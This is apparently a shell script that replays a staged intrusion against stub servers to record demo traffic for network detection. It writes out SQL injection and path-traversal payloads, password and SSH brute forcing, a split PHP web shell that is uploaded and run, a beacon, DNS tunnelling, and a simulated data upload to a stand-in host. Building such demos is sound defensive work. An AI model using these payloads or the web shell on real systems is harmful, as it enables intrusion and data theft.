# The story: what the people and the programs of the demo do, in order. Sourced by record.sh.
#
#   0 s   ordinary office work begins and goes on all the time
#   6 s   someone on the Internet scans the portal, tries its forms, guesses a password, and guesses at SSH
#  28 s   with the password an upload form takes a page that runs commands
#  31 s   an office computer fetches a "picture" that is a program, and the EICAR test file
#  31 s   that computer begins to call home every three seconds, asks a name of a list, and tunnels through DNS
#  53 s   1.5 MB leave for the same far end; the calls home go on
#
# Nothing here exploits anything: the requests look like the real ones and meet stubs.

FIREFOX="Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0"
CHROME="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
POWERSHELL="Mozilla/5.0 (Windows NT; Windows NT 10.0; vi-VN) WindowsPowerShell/5.1.19041.3031"
SCANNER="sqlmap/1.8.11#stable (https://sqlmap.org)"
PORTAL=http://cong.tinh.example

# get HOST AGENT URL...: fetches pages as a browser would, names looked up by the host's own resolver.
get() {
    local host=$1 agent=$2
    shift 2
    on "$host" curl -s -o /dev/null --cacert "$work/ca.pem" --max-time 8 -A "$agent" "$@"
}

# attack AGENT URL...: the same from outside, over IPv4 like everything the attacker does.
attack() {
    get attacker "$1" -4 "${@:2}"
}

# Office work on one computer, until the recording ends.
office() {
    local host=$1 agent=$2 family=$3 n=0
    while true; do
        n=$((n % 6 + 1))
        get "$host" "$agent" "$family" "https://tin-tuc.example/bai-$n.html" -o /dev/null "https://tin-tuc.example/anh-$n.jpg"
        sleep 1.$((RANDOM % 9))
        get "$host" "$agent" -4 -e https://tin-tuc.example/ "http://anh.tin-tuc.example/anh-$n.jpg"
        get "$host" "$agent" -4 "https://thoi-tiet.example/bai-1.html"
        sleep 2.$((RANDOM % 9))
        get "$host" "$agent" "$family" "$PORTAL/thu-tuc"
        get "$host" "$agent" -4 "https://cong.tinh.example/tra-cuu?ma=HS-2026-$((1000 + RANDOM % 9000))"
        sleep 2.$((RANDOM % 9))
        get "$host" "$agent" -4 "https://hoc-lieu.example/bai-$n.html" -o /dev/null "https://ban-do.example/anh-2.jpg"
        [ $((n % 4)) -ne 0 ] || get "$host" "$agent" -4 "http://cap-nhat.phan-mem.example/ban-va.zip"
        on "$host" dig +short tinh.example MX >/dev/null
        sleep 3.$((RANDOM % 9))
    done
}

scan() {
    say "the portal is scanned"
    on attacker nmap -n -Pn -sS -T4 --max-retries 1 --top-ports 400 198.51.100.10 >/dev/null
    on attacker nmap -n -Pn -sV --version-light -p 80,443 198.51.100.10 >/dev/null
}

probe_forms() {
    local query
    say "its forms are tried"
    for query in "ma=1%27%20OR%20%271%27=%271" "ma=1%20UNION%20SELECT%20NULL,ten,mat_khau%20FROM%20nguoi_dung--" \
        "ma=1%27%20AND%20SLEEP(3)--%20-" "ma=1;SELECT%20pg_sleep(3)--" "ma=%27%20UNION%20ALL%20SELECT%20table_name%20FROM%20information_schema.tables--"; do
        attack "$SCANNER" "$PORTAL/tra-cuu?$query"
    done
    attack "$SCANNER" --path-as-is "$PORTAL/tai-lieu?tep=../../../../etc/passwd"
    attack "$SCANNER" --path-as-is "$PORTAL/static/..%2f..%2f..%2f..%2fetc%2fpasswd"
    attack "$SCANNER" --path-as-is "$PORTAL/tai-lieu?tep=....//....//windows/win.ini"
}

guess_password() {
    local n
    say "passwords are guessed at its log-in"
    for n in $(seq 1 40); do
        attack "python-requests/2.32.3" -d "ten=quantri&mat_khau=matkhau$n" "$PORTAL/dang-nhap"
    done
    attack "python-requests/2.32.3" -d "ten=quantri&mat_khau=Mua-Xuan-2026" "$PORTAL/dang-nhap"
    attack "python-requests/2.32.3" -b "phien=ab12cd34" "$PORTAL/quan-tri"
}

guess_ssh() {
    local n
    say "and at SSH"
    for n in $(seq 1 30); do
        on attacker ssh -q -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=4 \
            -o IdentitiesOnly=yes -o PreferredAuthentications=publickey -i "$work/wrong_key" "admin$n@198.51.100.20" true 2>/dev/null &
        [ $((n % 4)) -ne 0 ] || sleep 0.4
    done
    for n in 1 2 3; do
        on attacker sshpass -p "matkhau$n" ssh -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
            -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 "root@198.51.100.20" true 2>/dev/null
    done
}

upload_page() {
    say "a page that runs commands is uploaded and used"
    # A look-alike in halves: this script is no web shell either.
    printf '%s%s\n' '<?php if(isset($_GET["cmd"])){ sys' 'tem($_GET["cmd"]); } @ev''al($_POST["x"]); ?>' > "$work/anh.php"
    attack "$FIREFOX" -b "phien=ab12cd34" -F "tep=@$work/anh.php;type=image/jpeg;filename=anh.php" "$PORTAL/upload"
    attack "$FIREFOX" "$PORTAL/upload/anh.php?cmd=id"
    attack "$FIREFOX" "$PORTAL/upload/anh.php?cmd=uname%20-a"
    attack "$FIREFOX" "$PORTAL/upload/anh.php?cmd=ls%20-la%20/var/www"
}

fetch_program() {
    say "an office computer fetches a program in a picture's clothes"
    get taichinh "$POWERSHELL" http://kho-anh.example/banner.png
    get taichinh "$CHROME" http://kho-anh.example/eicar.com
}

beacon() {
    while true; do
        on taichinh curl -sk -o /dev/null --max-time 2 -A "$CHROME" https://192.0.2.99:8443/g
        sleep 3
    done
}

tunnel() {
    local n
    say "a tunnel through DNS"
    for n in $(seq 1 170); do
        on taichinh dig +short +tries=1 +time=1 TXT \
            "$(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \n').$(printf %04x "$n").t.updates-cdn.example" >/dev/null
    done
}

carelessness() {
    say "passwords in clear text"
    get ubnd "$FIREFOX" -u "quantri:camera123" http://198.51.100.30/live
    get ubnd "$FIREFOX" -d "username=ubnd&password=matkhau-mau" "$PORTAL/dang-nhap"
}

leave_with_data() {
    say "1.5 MB leave"
    head -c 1500000 /dev/urandom > "$work/du-lieu.bin"
    on taichinh curl -s -o /dev/null -A "$CHROME" -H "Content-Type: application/octet-stream" -H "Expect:" \
        --data-binary "@$work/du-lieu.bin" http://192.0.2.99/nhan
}

story() {
    office yte "$FIREFOX" -6 & crew+=($!)
    office ubnd "$CHROME" -4 & crew+=($!)
    office taichinh "$CHROME" -4 & crew+=($!)
    sleep 6
    scan
    probe_forms
    carelessness
    guess_password
    guess_ssh
    sleep 2
    upload_page
    sleep 3
    fetch_program
    beacon & crew+=($!)
    say "it asks a name of the list of known bad ones"
    on taichinh dig +short c2.sinkhole.example >/dev/null
    sleep 4
    tunnel
    sleep 6
    leave_with_data
    sleep 20
}
